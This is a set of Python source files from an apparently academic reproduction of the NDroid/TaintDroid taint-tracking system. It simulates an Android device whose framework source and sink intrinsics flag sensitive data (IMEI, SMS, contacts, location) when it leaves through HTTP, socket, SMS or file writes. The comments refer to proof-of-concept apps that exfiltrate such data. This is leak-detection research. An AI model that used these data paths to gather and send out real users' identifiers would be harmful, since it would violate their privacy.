APP_LIBRARY_STRIDE = 0x0010_0000


class AndroidPlatform:
    """A complete simulated Android device."""

    def __init__(self, device: Optional[DeviceProfile] = None,
                 use_tb: bool = True, observe: bool = True) -> None:
        self.event_log = EventLog()
        self.memory = Memory()
        self.emu = Emulator(memory=self.memory, event_log=self.event_log,
                            use_tb=use_tb)
        self.kernel = Kernel(self.memory, event_log=self.event_log)
        self.kernel.spawn_process("system_server")
        self.app_process = self.kernel.spawn_process("app_process")
        self.kernel.set_current(self.app_process)
        # The app process shares the emulator's memory map so both the
        # loader and the kernel's task structs describe the same mappings.
        self.app_process.memory_map = self.emu.memory_map
        self.emu.syscall_handler = self.kernel.handle_svc

        self.libc = CLibrary(self.emu, self.kernel)
        self.libm = MathLibrary(self.emu)
        self.vm = DalvikVM(self.memory, event_log=self.event_log)
        if use_tb:
            # The managed side follows the native TB engine's switch: the
            # same flag selects trace-compiled Dalvik blocks, keeping the
            # use_tb=False platform a byte-identical single-step oracle.
            self.vm.enable_trace_compiler()
        self.jni = JniLayer(self.emu, self.vm)
        self.device = device if device is not None else DeviceProfile.default()
        self.leaks = LeakRegistry()

        # Analysis systems attach here.
        self.taintdroid = None
        self.ndroid = None
        self.droidscope = None

        self.api = FrameworkApi(self)
        self.api.register_all()
        self.libc.dlopen_handler = self._dlopen
        self.libc.dlsym_handler = self._dlsym

        self.emu.cpu.sp = NATIVE_STACK_TOP
        self.emu.memory_map.map(NATIVE_STACK_TOP - NATIVE_STACK_SIZE,
                                NATIVE_STACK_SIZE, "[stack]", perms="rw-")
        from repro.dalvik.stack import DVM_STACK_BASE, DVM_STACK_SIZE
        self.emu.memory_map.map(DVM_STACK_BASE - DVM_STACK_SIZE,
                                DVM_STACK_SIZE, "[dalvik stack]", perms="rw-")
        self.kernel.sync_tasks_to_guest()

        # Observability facade (metrics sources are pull-only; the
        # ledger/profiler stay off until enable_tracing()).
        self.observability = Observability() if observe else None
        if self.observability is not None:
            self.observability.wire(self)

        self._installed: Dict[str, Apk] = {}
        self._loaded_libraries: Dict[str, Program] = {}
        self._library_handles: List[str] = []
        self._next_library_base = APP_LIBRARY_BASE
        # The VM starts with taint slots maintained but no policy consumer;
        # the vanilla configuration disables the bookkeeping entirely.
        self.vm.taint_tracking = False

    # -- app management -------------------------------------------------------------

    def install(self, apk: Apk) -> None:
        """Register the app's classes (its dex) with the VM."""
        if apk.package in self._installed:
            raise DalvikError(f"{apk.package} already installed")
        for class_def in apk.classes:
            self.vm.register_class(class_def)
        self._installed[apk.package] = apk
        self.event_log.emit("framework", "install", apk.package,
                            package=apk.package,
                            libraries=sorted(apk.native_libraries))

    def run_app(self, apk: Apk, args: Optional[List[Slot]] = None) -> Slot:
        """Invoke the app's ``main``; libraries load via System.loadLibrary."""
        return self.vm.call_main(apk.main_symbol(), args or [])

    # -- native library loading --------------------------------------------------------

    def load_library(self, name: str) -> Program:
        """System.loadLibrary: assemble, map (third-party) and bind."""
        if name in self._loaded_libraries:
            return self._loaded_libraries[name]
        source = None
        for apk in self._installed.values():
            if name in apk.native_libraries:
                source = apk.native_libraries[name]
                break
        if source is None:
            raise DalvikError(f"UnsatisfiedLinkError: no library {name!r}")
        base = self._next_library_base
        self._next_library_base += APP_LIBRARY_STRIDE
        externs = dict(self.libc.symbols)
        externs.update(self.libm.symbols)
        program = assemble(source, base=base, externs=externs)
        self.emu.load(base, program.code)
        size = max((len(program.code) + 0xFFF) & ~0xFFF, 0x1000)
        self.emu.memory_map.map(base, size, name, perms="r-x",
                                third_party=True)
        self.kernel.sync_tasks_to_guest()
        self._loaded_libraries[name] = program
        self._library_handles.append(name)
        self._bind_native_methods(program)
        self.event_log.emit("framework", "loadLibrary",
                            f"{name} @0x{base:08x}", name=name, base=base,
                            size=len(program.code))
        # Run JNI_OnLoad if the library exports one (libraries that bind
        # their methods via RegisterNatives do it here).  The first
        # argument is the env pointer; the real ABI passes JavaVM*, whose
        # only use in practice is GetEnv — this shortcut preserves the
        # observable behaviour.
        if "JNI_OnLoad" in program.symbols:
            self.emu.call(program.entry("JNI_OnLoad"),
                          args=(self.jni.env_pointer(), 0))
            self.event_log.emit("framework", "JNI_OnLoad", name, name=name)
        return program

    def _bind_native_methods(self, program: Program) -> None:
        """Bind ``Java_pkg_Class_method`` symbols to native methods."""
        for class_def in self.vm.classes.values():
            for method in class_def.methods.values():
                if method.is_native and method.native_address == 0:
                    symbol = method.jni_symbol()
                    if symbol in program.symbols:
                        method.native_address = program.entry(symbol)

    def _dlopen(self, path: str) -> int:
        name = path.rsplit("/", 1)[-1]
        try:
            self.load_library(name)
        except DalvikError:
            return 0
        try:
            return self._library_handles.index(name) + 1
        except ValueError:
            return 0

    def _dlsym(self, handle: int, symbol: str) -> int:
        index = handle - 1
        if not 0 <= index < len(self._library_handles):
            return 0
        program = self._loaded_libraries[self._library_handles[index]]
        if symbol not in program.symbols:
            return 0
        return program.entry(symbol)

    # -- measurement helpers -----------------------------------------------------------

    def work_counters(self) -> Dict[str, int]:
        return {
            "native_instructions": self.emu.instruction_count,
            "dalvik_instructions": self.vm.dalvik_instructions,
            "host_calls": self.emu.host_call_count,
            "syscalls": self.kernel.syscall_count,
            "gc_count": self.vm.heap.gc_count,
        }
