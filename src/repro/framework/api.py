"""Framework API intrinsics: TaintDroid's sources and Java-context sinks.

Sources attach taint labels when TaintDroid is active ("TaintDroid adds
taints to the sources of sensitive information — GPS data, SMS messages,
IMSI, IMEI, etc.", Section II.B).  Sinks transmit through the simulated
kernel and, when TaintDroid is active, check argument taints and report
Java-context leaks.

All intrinsics are registered under their framework symbols, e.g.
``Landroid/telephony/TelephonyManager;->getDeviceId``.
"""

from __future__ import annotations

from typing import List, Optional

from repro.common.taint import (
    TAINT_ACCELEROMETER,
    TAINT_ACCOUNT,
    TAINT_CAMERA,
    TAINT_CLEAR,
    TAINT_CONTACTS,
    TAINT_HISTORY,
    TAINT_ICCID,
    TAINT_IMEI,
    TAINT_IMSI,
    TAINT_LOCATION_GPS,
    TAINT_LOCATION_NET,
    TAINT_MIC,
    TAINT_PHONE_NUMBER,
    TAINT_SMS,
    TaintLabel,
)
from repro.dalvik.heap import Slot
from repro.framework.leaks import LeakRecord
from repro.observability.ledger import Loc


class FrameworkApi:
    """Binds source/sink intrinsics to a platform instance."""

    def __init__(self, platform) -> None:
        self.platform = platform

    # -- registration ------------------------------------------------------------

    def register_all(self) -> None:
        vm = self.platform.vm
        sources = {
            "Landroid/telephony/TelephonyManager;->getDeviceId":
                (lambda d: d.imei, TAINT_IMEI),
            "Landroid/telephony/TelephonyManager;->getSubscriberId":
                (lambda d: d.imsi, TAINT_IMSI),
            "Landroid/telephony/TelephonyManager;->getSimSerialNumber":
                (lambda d: d.iccid, TAINT_ICCID),
            "Landroid/telephony/TelephonyManager;->getLine1Number":
                (lambda d: d.line1_number, TAINT_PHONE_NUMBER),
            "Landroid/telephony/TelephonyManager;->getNetworkOperator":
                (lambda d: d.network_operator, TAINT_CLEAR),
            "Landroid/provider/ContactsContract;->queryAllContacts":
                (lambda d: d.contacts_dump(), TAINT_CONTACTS),
            "Landroid/provider/Telephony$Sms;->getAllMessages":
                (lambda d: d.sms_dump(), TAINT_SMS),
            "Landroid/location/LocationManager;->getLastKnownLocation":
                (lambda d: d.location_string(), TAINT_LOCATION_GPS),
            "Landroid/location/LocationManager;->getNetworkLocation":
                (lambda d: d.location_string(), TAINT_LOCATION_NET),
            "Landroid/accounts/AccountManager;->getAccounts":
                (lambda d: ";".join(d.accounts), TAINT_ACCOUNT),
            "Landroid/hardware/SensorManager;->getAccelerometer":
                (lambda d: "0.12,9.81,0.05", TAINT_ACCELEROMETER),
            "Landroid/media/AudioRecord;->read":
                (lambda d: "PCM:" + "00" * 16, TAINT_MIC),
            "Landroid/hardware/Camera;->takePicture":
                (lambda d: "JPEG:" + "ff" * 16, TAINT_CAMERA),
            "Landroid/provider/Browser;->getHistory":
                (lambda d: "https://bank.example.com/login", TAINT_HISTORY),
        }
        for symbol, (getter, taint) in sources.items():
            vm.register_intrinsic(
                symbol, self._make_string_source(getter, taint, symbol))

        # Contact-by-id sources (the case-2 PoC reads id/name/email).
        for field_name, accessor in (
                ("getContactId", lambda c: c.contact_id),
                ("getContactName", lambda c: c.name),
                ("getContactEmail", lambda c: c.email)):
            vm.register_intrinsic(
                f"Landroid/provider/ContactsContract;->{field_name}",
                self._make_contact_source(accessor))

        # Java-context sinks.
        vm.register_intrinsic("Lorg/apache/http/client/HttpClient;->post",
                              self._sink_http_post)
        vm.register_intrinsic("Ljava/net/Socket;->sendData",
                              self._sink_socket_send)
        vm.register_intrinsic("Landroid/telephony/SmsManager;->sendTextMessage",
                              self._sink_sms_send)
        vm.register_intrinsic("Ljava/io/FileOutputStream;->writeString",
                              self._sink_file_write)

        # String utility intrinsics apps lean on.
        vm.register_intrinsic("Ljava/lang/String;->length",
                              self._string_length)
        vm.register_intrinsic("Ljava/lang/String;->equals",
                              self._string_equals)

        # System.loadLibrary / System.load.
        vm.register_intrinsic("Ljava/lang/System;->loadLibrary",
                              self._load_library)
        vm.register_intrinsic("Ljava/lang/System;->load", self._load_library)
        # Throwable.getMessage (used to leak via exceptions, case 1').
        vm.register_intrinsic("Ljava/lang/Throwable;->getMessage",
                              self._throwable_get_message)

    # -- source factories ------------------------------------------------------------

    def _source_taint(self, taint: TaintLabel) -> TaintLabel:
        """Sources taint only when TaintDroid instruments the framework."""
        return taint if self.platform.taintdroid is not None else TAINT_CLEAR

    def _trace_source(self, symbol: str, label: TaintLabel) -> None:
        ledger = getattr(self.platform.vm, "ledger", None)
        if label and ledger is not None:
            ledger.record(label, "source:framework", Loc.api(symbol),
                          Loc.java(label), location=symbol)

    def _make_string_source(self, getter, taint: TaintLabel,
                            symbol: str = ""):
        def intrinsic(vm, args: List[Slot]) -> Slot:
            label = self._source_taint(taint)
            text = getter(self.platform.device)
            record = vm.heap.alloc_string(text, label)
            self._trace_source(symbol, label)
            self.platform.event_log.emit(
                "framework", "source", f"{text!r} taint=0x{label:x}",
                text=text, taint=label)
            return Slot(record.address, label, True)
        return intrinsic

    def _make_contact_source(self, accessor):
        def intrinsic(vm, args: List[Slot]) -> Slot:
            index = args[0].value if args else 0
            contacts = self.platform.device.contacts
            contact = contacts[index % len(contacts)]
            label = self._source_taint(TAINT_CONTACTS)
            record = vm.heap.alloc_string(accessor(contact), label)
            self._trace_source(
                "Landroid/provider/ContactsContract;->getContact", label)
            return Slot(record.address, label, True)
        return intrinsic

    # -- sinks -------------------------------------------------------------------------

    def _string_and_taint(self, vm, slot: Slot):
        record = vm.heap.get(slot.value)
        return record.text, slot.taint | record.taint

    def _check_java_sink(self, sink: str, taint: TaintLabel,
                         destination: str, payload: bytes) -> None:
        taintdroid = self.platform.taintdroid
        if taintdroid is not None and taint != TAINT_CLEAR:
            taintdroid.report_leak(sink=sink, taint=taint,
                                   destination=destination, payload=payload)

    def _sink_http_post(self, vm, args: List[Slot]) -> Slot:
        destination, dest_taint = self._string_and_taint(vm, args[0])
        body, body_taint = self._string_and_taint(vm, args[1])
        payload = body.encode("utf-8")
        taint = body_taint
        kernel = self.platform.kernel
        fd = kernel.sys_socket()
        kernel.sys_connect(fd, destination)
        kernel.sys_send(fd, payload, [taint] * len(payload))
        kernel.sys_close(fd)
        self._check_java_sink("HttpClient.post", taint, destination, payload)
        return Slot(200)

    def _sink_socket_send(self, vm, args: List[Slot]) -> Slot:
        destination, __ = self._string_and_taint(vm, args[0])
        body, taint = self._string_and_taint(vm, args[1])
        payload = body.encode("utf-8")
        kernel = self.platform.kernel
        fd = kernel.sys_socket()
        kernel.sys_connect(fd, destination)
        kernel.sys_send(fd, payload, [taint] * len(payload))
        kernel.sys_close(fd)
        self._check_java_sink("Socket.send", taint, destination, payload)
        return Slot(len(payload))

    def _sink_sms_send(self, vm, args: List[Slot]) -> Slot:
        number, __ = self._string_and_taint(vm, args[0])
        body, taint = self._string_and_taint(vm, args[1])
        payload = body.encode("utf-8")
        kernel = self.platform.kernel
        fd = kernel.sys_socket()
        kernel.sys_sendto(fd, payload, f"sms:{number}",
                          [taint] * len(payload))
        kernel.sys_close(fd)
        self._check_java_sink("SmsManager.sendTextMessage", taint,
                              f"sms:{number}", payload)
        return None

    def _sink_file_write(self, vm, args: List[Slot]) -> Slot:
        path, __ = self._string_and_taint(vm, args[0])
        body, taint = self._string_and_taint(vm, args[1])
        payload = body.encode("utf-8")
        kernel = self.platform.kernel
        from repro.kernel.kernel import O_APPEND, O_CREAT
        fd = kernel.sys_open(path, O_CREAT | O_APPEND)
        kernel.sys_write(fd, payload, [taint] * len(payload))
        kernel.sys_close(fd)
        self._check_java_sink("FileOutputStream.write", taint, path, payload)
        return Slot(len(payload))

    # -- utilities ------------------------------------------------------------------------

    def _string_length(self, vm, args: List[Slot]) -> Slot:
        text, taint = self._string_and_taint(vm, args[0])
        return Slot(len(text), taint)

    def _string_equals(self, vm, args: List[Slot]) -> Slot:
        a, taint_a = self._string_and_taint(vm, args[0])
        b, taint_b = self._string_and_taint(vm, args[1])
        return Slot(1 if a == b else 0, taint_a | taint_b)

    def _load_library(self, vm, args: List[Slot]) -> Optional[Slot]:
        name, __ = self._string_and_taint(vm, args[0])
        self.platform.load_library(name)
        return None

    def _throwable_get_message(self, vm, args: List[Slot]) -> Slot:
        record = vm.heap.get(args[0].value)
        slot = record.fields.get("message")
        if slot is None or slot.value == 0:
            return Slot(vm.heap.alloc_string("").address, TAINT_CLEAR, True)
        message = vm.heap.get(slot.value)
        return Slot(slot.value, slot.taint | message.taint, True)
