"""Device identity and user data — the values behind TaintDroid's sources.

The defaults echo the paper's logs: the emulator's line-1 number
``15555215554`` and network operator ``310260`` appear verbatim in the
case-3 PoC (Fig. 9).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Tuple


@dataclass
class Contact:
    """One address-book entry (the case-2 PoC leaks these fields)."""
    contact_id: str
    name: str
    email: str

    def formatted(self) -> str:
        return f"{self.contact_id} {self.name} {self.email}"


@dataclass
class SmsMessage:
    """One stored SMS message (a TaintDroid SMS-source item)."""
    sender: str
    body: str


@dataclass
class DeviceProfile:
    """Everything sensitive a device knows."""

    imei: str = "356938035643809"
    imsi: str = "310260000000000"
    iccid: str = "89014103211118510720"
    line1_number: str = "15555215554"
    network_operator: str = "310260"
    device_serial: str = "EMULATOR29X1"
    latitude: float = 22.3964
    longitude: float = 114.1095
    contacts: List[Contact] = field(default_factory=list)
    sms_messages: List[SmsMessage] = field(default_factory=list)
    accounts: List[str] = field(default_factory=list)

    @classmethod
    def default(cls) -> "DeviceProfile":
        """The profile used throughout the scenario apps and tests."""
        return cls(
            contacts=[
                Contact("1", "Vincent", "cx@gg.com"),
                Contact("2", "Alice", "alice@example.com"),
                Contact("3", "Bob", "bob@example.com"),
            ],
            sms_messages=[
                SmsMessage("10086", "Your verification code is 8731"),
                SmsMessage("+85212345678", "Meet at 7pm"),
            ],
            accounts=["user@gmail.com"],
        )

    def location_string(self) -> str:
        return f"{self.latitude:.4f},{self.longitude:.4f}"

    def contacts_dump(self) -> str:
        return ";".join(contact.formatted() for contact in self.contacts)

    def sms_dump(self) -> str:
        return ";".join(f"{message.sender}:{message.body}"
                        for message in self.sms_messages)

    def device_info_dump(self) -> str:
        """The blob the case-3 PoC exfiltrates (Fig. 9)."""
        return (f"DeviceId = {self.imei} Line1Number = {self.line1_number} "
                f"NetworkOperator = {self.network_operator} "
                f"SimSerial = {self.iccid}")
