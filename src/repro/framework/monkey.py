"""Monkey-style random input generation (paper Section VI).

The paper drives its 37,506 JNI apps with Monkeyrunner — random UI events
— and notes the resulting coverage limits: "simple tools like
monkeyrunner cannot enumerate all possible paths in an app and thus
NDroid may miss information leakage" (Section VII).

Apps here expose *handlers* instead of UI widgets: any public static
method named ``on<Something>`` with no parameters (``onCreate``,
``onClick``, ``onMenuOpen``…).  :class:`MonkeyRunner` fires a random
sequence of those handlers, exactly like a tap-stream would; a leak
hidden behind a handler the monkey never hits stays unobserved, which is
the coverage phenomenon the paper reports.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.dalvik.interpreter import PendingException
from repro.framework.apk import Apk


@dataclass
class MonkeySession:
    """Record of one random-input run."""

    package: str
    events_fired: List[str] = field(default_factory=list)
    handlers_available: List[str] = field(default_factory=list)
    crashes: int = 0

    @property
    def coverage(self) -> float:
        """Fraction of available handlers exercised at least once."""
        if not self.handlers_available:
            return 1.0
        hit = set(self.events_fired) & set(self.handlers_available)
        return len(hit) / len(self.handlers_available)


class MonkeyRunner:
    """Fires random handler events at an installed app."""

    def __init__(self, platform, seed: int = 0) -> None:
        self.platform = platform
        self.random = random.Random(seed)

    @staticmethod
    def discover_handlers(apk: Apk) -> List[str]:
        """All ``on*`` no-argument static methods (the app's event surface)."""
        handlers = []
        for class_def in apk.classes:
            for method in class_def.methods.values():
                if (method.name.startswith("on") and method.is_static
                        and not method.is_native
                        and method.ins_size == 0):
                    handlers.append(f"{class_def.name}->{method.name}")
        return sorted(handlers)

    def run(self, apk: Apk, events: int = 20,
            launch_main: bool = True) -> MonkeySession:
        """Launch the app, then fire ``events`` random handler events."""
        session = MonkeySession(package=apk.package)
        session.handlers_available = self.discover_handlers(apk)
        if launch_main:
            try:
                self.platform.run_app(apk)
            except PendingException:
                session.crashes += 1
        if not session.handlers_available:
            return session
        for __ in range(events):
            handler = self.random.choice(session.handlers_available)
            session.events_fired.append(handler)
            try:
                self.platform.vm.call_main(handler)
            except PendingException:
                session.crashes += 1
        self.platform.event_log.emit(
            "monkey", "session",
            f"{apk.package}: {events} events, "
            f"coverage {session.coverage:.0%}",
            package=apk.package, events=events,
            coverage=session.coverage)
        return session
