"""The Android application framework simulation.

Provides what sits between apps and the substrates:

* a :class:`DeviceProfile` holding the sensitive values TaintDroid taints
  at its sources (IMEI, IMSI, ICCID, line-1 number, contacts, SMS, GPS);
* framework API **intrinsics** — telephony, contacts, SMS, location
  (sources) and network/file/SMS-send Java APIs (sinks);
* ``System.loadLibrary``: assembles an app's bundled native library into a
  third-party region and binds ``Java_*`` symbols to its native methods;
* :class:`AndroidPlatform`, the facade that assembles the whole device and
  is the entry point used by examples, scenario apps and benchmarks;
* :class:`Apk`, the installable app bundle.
"""

from repro.framework.android import AndroidPlatform
from repro.framework.apk import Apk
from repro.framework.device import DeviceProfile
from repro.framework.leaks import LeakRecord, LeakRegistry
from repro.framework.monkey import MonkeyRunner, MonkeySession

__all__ = [
    "AndroidPlatform",
    "Apk",
    "DeviceProfile",
    "LeakRecord",
    "LeakRegistry",
    "MonkeyRunner",
    "MonkeySession",
]
