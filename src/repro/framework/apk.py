"""The installable app bundle.

An :class:`Apk` carries what the analyses in Section III inspect: the app's
classes (dex), its bundled native libraries (as assembly source, our
equivalent of ``lib/armeabi/*.so``), whether its Java code calls
``System.loadLibrary``, any *embedded dex* payloads (the Type II trick of
shipping a compressed dex that does the loading), and market metadata.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.dalvik.classes import ClassDef


@dataclass
class EmbeddedDex:
    """A secondary dex file an app can load dynamically (Section III.B)."""

    name: str
    calls_load_library: bool = False
    classes: List[ClassDef] = field(default_factory=list)


@dataclass
class Apk:
    package: str
    category: str = "Tools"
    classes: List[ClassDef] = field(default_factory=list)
    # library name -> ARM assembly source (assembled at install time).
    native_libraries: Dict[str, str] = field(default_factory=dict)
    # Library names the Java code passes to System.loadLibrary().
    load_library_calls: List[str] = field(default_factory=list)
    embedded_dex: List[EmbeddedDex] = field(default_factory=list)
    pure_native: bool = False
    # Java classes that *declare* native methods (used by the §III study).
    downloads: int = 0

    def declares_native_methods(self) -> bool:
        return any(method.is_native
                   for class_def in self.classes
                   for method in class_def.methods.values())

    def main_symbol(self) -> str:
        """The conventional entry point: first class's ``main`` method."""
        for class_def in self.classes:
            if "main" in class_def.methods:
                return f"{class_def.name}->main"
        raise ValueError(f"{self.package} has no main method")
