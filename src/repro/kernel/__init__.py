"""The simulated Linux kernel under the Android platform.

Provides the observable surface NDroid interacts with:

* a virtual file system (the PoC of case 2 writes contacts to
  ``/sdcard/CONTACTS`` through it),
* a socket/network layer that records every transmission (the sinks of the
  QQPhoneBook and ePhone scenarios),
* a process table whose task structures are materialised **inside guest
  memory**, so the OS-level view reconstructor can rebuild the process list
  and memory maps by parsing raw bytes — the same virtual machine
  introspection DroidScope performs and NDroid borrows (Section V.F),
* an ARM-EABI syscall dispatcher (``r7`` holds the number, ``svc #0``
  traps).
"""

from repro.kernel.filesystem import FileSystem, RegularFile
from repro.kernel.kernel import Kernel
from repro.kernel.network import NetworkStack, Socket, Transmission
from repro.kernel.process import Process
from repro.kernel.syscalls import NR

__all__ = [
    "Kernel",
    "FileSystem",
    "RegularFile",
    "NetworkStack",
    "Socket",
    "Transmission",
    "Process",
    "NR",
]
