"""ARM EABI syscall numbers.

Native code traps with ``r7`` holding the number and ``svc #0``; the
numbers below follow ``arch/arm/include/asm/unistd.h`` for the 2.6.29
kernel the paper runs (Section VI).
"""

from __future__ import annotations

import enum


class NR(enum.IntEnum):
    """Syscall numbers (ARM EABI)."""

    EXIT = 1
    FORK = 2
    READ = 3
    WRITE = 4
    OPEN = 5
    CLOSE = 6
    UNLINK = 10
    EXECVE = 11
    GETPID = 20
    PTRACE = 26
    KILL = 37
    RENAME = 38
    MKDIR = 39
    IOCTL = 54
    FCNTL = 55
    MUNMAP = 91
    STAT = 106
    SELECT = 142
    MMAP2 = 192
    SOCKET = 281
    BIND = 282
    CONNECT = 283
    LISTEN = 284
    ACCEPT = 285
    SEND = 289
    SENDTO = 290
    RECV = 291
    RECVFROM = 292

    @classmethod
    def has(cls, value: int) -> bool:
        return value in cls._value2member_map_


class Errno(enum.IntEnum):
    """The errno values the simulated kernel can return.

    Transient errors (``EINTR``/``EAGAIN``) are the ones the resilience
    fault plan injects on write-like syscalls; a caller that retries the
    call must eventually succeed.
    """

    EINTR = 4
    EAGAIN = 11

    @classmethod
    def transient(cls, value: int) -> bool:
        return value in (cls.EINTR, cls.EAGAIN)


# Syscalls with partial-write/short-count semantics: the kernel may emit
# fewer bytes than requested, and only the bytes actually emitted reach
# the sink (with only their taints).
SHORT_WRITE_SYSCALLS = ("write", "send", "sendto")
