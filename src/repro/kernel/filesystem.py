"""A small virtual file system.

Paths are absolute, ``/``-separated.  Regular files hold a ``bytearray``
plus a parallel per-byte taint shadow, so file contents written by a
tainted buffer stay tainted when read back — information flows through the
file system are not laundered (a file write then read is still a flow).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.common.errors import KernelError
from repro.common.taint import TAINT_CLEAR, TaintLabel, combine


@dataclass
class RegularFile:
    """File content plus a taint label per byte."""

    data: bytearray = field(default_factory=bytearray)
    taints: List[TaintLabel] = field(default_factory=list)

    def write_at(self, offset: int, payload: bytes,
                 taints: Optional[List[TaintLabel]] = None) -> int:
        if taints is None:
            taints = [TAINT_CLEAR] * len(payload)
        end = offset + len(payload)
        if end > len(self.data):
            self.data.extend(b"\x00" * (end - len(self.data)))
            self.taints.extend([TAINT_CLEAR] * (end - len(self.taints)))
        self.data[offset:end] = payload
        self.taints[offset:end] = taints
        return len(payload)

    def read_at(self, offset: int,
                length: int) -> Tuple[bytes, List[TaintLabel]]:
        chunk = bytes(self.data[offset:offset + length])
        taints = self.taints[offset:offset + len(chunk)]
        return chunk, taints

    @property
    def size(self) -> int:
        return len(self.data)

    def taint_union(self) -> TaintLabel:
        return combine(*self.taints) if self.taints else TAINT_CLEAR


class FileSystem:
    """Flat-namespace VFS with directory bookkeeping."""

    def __init__(self) -> None:
        self._files: Dict[str, RegularFile] = {}
        self._directories = {"/"}
        for path in ("/sdcard", "/data", "/data/data", "/proc", "/system",
                     "/system/lib"):
            self._directories.add(path)

    # -- path helpers --------------------------------------------------------

    @staticmethod
    def _normalize(path: str) -> str:
        if not path.startswith("/"):
            raise KernelError(f"path must be absolute: {path!r}")
        parts = [part for part in path.split("/") if part]
        return "/" + "/".join(parts)

    @staticmethod
    def _parent(path: str) -> str:
        head, _, __ = path.rpartition("/")
        return head or "/"

    # -- directories ------------------------------------------------------------

    def mkdir(self, path: str) -> None:
        path = self._normalize(path)
        parent = self._parent(path)
        if parent not in self._directories:
            raise KernelError(f"mkdir: no parent directory {parent!r}")
        if path in self._directories or path in self._files:
            raise KernelError(f"mkdir: {path!r} exists")
        self._directories.add(path)

    def is_dir(self, path: str) -> bool:
        return self._normalize(path) in self._directories

    def listdir(self, path: str) -> List[str]:
        path = self._normalize(path)
        if path not in self._directories:
            raise KernelError(f"listdir: no directory {path!r}")
        prefix = path if path.endswith("/") else path + "/"
        names = set()
        for candidate in list(self._files) + list(self._directories):
            if candidate != path and candidate.startswith(prefix):
                remainder = candidate[len(prefix):]
                names.add(remainder.split("/", 1)[0])
        return sorted(names)

    # -- files ---------------------------------------------------------------------

    def create(self, path: str) -> RegularFile:
        path = self._normalize(path)
        if self._parent(path) not in self._directories:
            raise KernelError(f"create: no parent directory for {path!r}")
        if path in self._directories:
            raise KernelError(f"create: {path!r} is a directory")
        file = RegularFile()
        self._files[path] = file
        return file

    def exists(self, path: str) -> bool:
        path = self._normalize(path)
        return path in self._files or path in self._directories

    def lookup(self, path: str) -> RegularFile:
        path = self._normalize(path)
        if path not in self._files:
            raise KernelError(f"no such file: {path!r}")
        return self._files[path]

    def open_or_create(self, path: str, create: bool,
                       truncate: bool) -> RegularFile:
        path = self._normalize(path)
        file = self._files.get(path)
        if file is None:
            if not create:
                raise KernelError(f"no such file: {path!r}")
            file = self.create(path)
        elif truncate:
            file.data.clear()
            file.taints.clear()
        return file

    def remove(self, path: str) -> None:
        path = self._normalize(path)
        if path not in self._files:
            raise KernelError(f"remove: no such file {path!r}")
        del self._files[path]

    def rename(self, old: str, new: str) -> None:
        old, new = self._normalize(old), self._normalize(new)
        if old not in self._files:
            raise KernelError(f"rename: no such file {old!r}")
        if self._parent(new) not in self._directories:
            raise KernelError(f"rename: no parent directory for {new!r}")
        self._files[new] = self._files.pop(old)

    def write_text(self, path: str, text: str) -> RegularFile:
        """Convenience used by platform setup (e.g. seeding /proc files)."""
        file = self.open_or_create(path, create=True, truncate=True)
        file.write_at(0, text.encode("utf-8"))
        return file

    def read_text(self, path: str) -> str:
        chunk, _ = self.lookup(path).read_at(0, self.lookup(path).size)
        return chunk.decode("utf-8", errors="replace")

    def all_files(self) -> Dict[str, RegularFile]:
        return dict(self._files)
