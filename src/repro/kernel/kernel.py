"""The kernel facade: processes, descriptors, and syscall dispatch.

Exposes two call paths, as a real kernel does:

* a **Python API** (``sys_open``, ``sys_write``…) used by the modelled libc
  host functions — this is the equivalent of libc's syscall wrappers, and
* a **trap path** via ``svc #0`` with the ARM EABI convention (number in
  ``r7``, arguments in ``r0``–``r5``), installed as the emulator's
  ``syscall_handler``.

Every write-like operation accepts per-byte taints; when code traps
directly without taint information, the kernel consults its pluggable
``taint_provider`` (installed by NDroid's taint engine) so raw syscalls
are sinks too.
"""

from __future__ import annotations

from typing import Callable, Dict, List, Optional, Tuple

from repro.common.errors import KernelError, TransientSyscallFault
from repro.common.events import EventLog
from repro.common.taint import TAINT_CLEAR, TaintLabel
from repro.kernel.filesystem import FileSystem
from repro.kernel.network import AF_INET, NetworkStack, SOCK_STREAM
from repro.kernel.process import (
    KERNEL_DATA_BASE,
    KERNEL_DATA_SIZE,
    TASK_LIST_HEAD,
    FileDescriptor,
    Process,
)
from repro.kernel.syscalls import NR, Errno
from repro.memory.allocator import BumpAllocator
from repro.memory.memory import Memory
from repro.observability.ledger import Loc

# open(2) flag bits (bionic values).
O_RDONLY = 0o0
O_WRONLY = 0o1
O_RDWR = 0o2
O_CREAT = 0o100
O_TRUNC = 0o1000
O_APPEND = 0o2000

TaintProvider = Callable[[int, int], List[TaintLabel]]

# A syscall fault hook inspects ``(syscall_name, requested_bytes)`` and
# returns ``None`` (no fault), ``("errno", Errno.EINTR)`` (fail the call
# with a transient error) or ``("partial", n)`` (emit only ``n`` bytes).
# The resilience fault plan installs one; production runs leave it None.
SyscallFaultHook = Callable[[str, int], Optional[Tuple[str, int]]]


class Kernel:
    """All kernel state for one emulated machine."""

    def __init__(self, memory: Memory,
                 event_log: Optional[EventLog] = None) -> None:
        self.memory = memory
        self.event_log = event_log if event_log is not None else EventLog()
        self.filesystem = FileSystem()
        self.network = NetworkStack()
        self.processes: Dict[int, Process] = {}
        self._next_pid = 1
        self.current: Optional[Process] = None
        self._kernel_allocator = BumpAllocator(KERNEL_DATA_BASE,
                                               KERNEL_DATA_SIZE)
        # NDroid's taint engine installs this so raw SVC writes see taints.
        self.taint_provider: Optional[TaintProvider] = None
        # The resilience fault plan installs this to inject EINTR/EAGAIN
        # and short counts on write-like syscalls.
        self.syscall_fault_hook: Optional[SyscallFaultHook] = None
        self.syscall_count = 0
        # Per-name tally, exported as the kernel.syscall.<name> metrics.
        self.syscalls_by_name: Dict[str, int] = {}
        # Provenance ledger for the final taint hop into a sink; installed
        # by the observability layer when tracing is enabled, else None.
        self.ledger = None

    def _count(self, name: str) -> None:
        self.syscalls_by_name[name] = self.syscalls_by_name.get(name, 0) + 1

    def _record_sink(self, name: str, taints: Optional[List[TaintLabel]],
                     destination: str, src_loc: Optional[Loc]) -> None:
        """The ledger's terminal edge: tainted bytes left the device.

        The SVC trap path passes the guest buffer as ``src_loc`` so the
        edge chains into the native segment; Python-API callers (the
        framework sinks) default to the coarse Java-context node for the
        union of labels, which chains into the Java-side flow instead.
        """
        if self.ledger is None or not taints:
            return
        tag = TAINT_CLEAR
        for taint in taints:
            tag |= taint
        if not tag:
